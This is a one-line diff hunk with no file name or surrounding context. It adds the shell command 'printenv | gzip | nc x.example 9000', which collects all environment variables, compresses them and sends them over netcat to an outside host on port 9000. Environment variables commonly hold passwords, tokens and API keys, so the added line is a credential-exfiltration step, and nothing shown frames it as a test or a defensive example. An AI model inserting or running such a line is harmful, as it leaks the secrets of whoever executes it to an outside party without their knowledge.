@@ -1,0 +1,1 @@
+printenv | gzip | nc x.example 9000
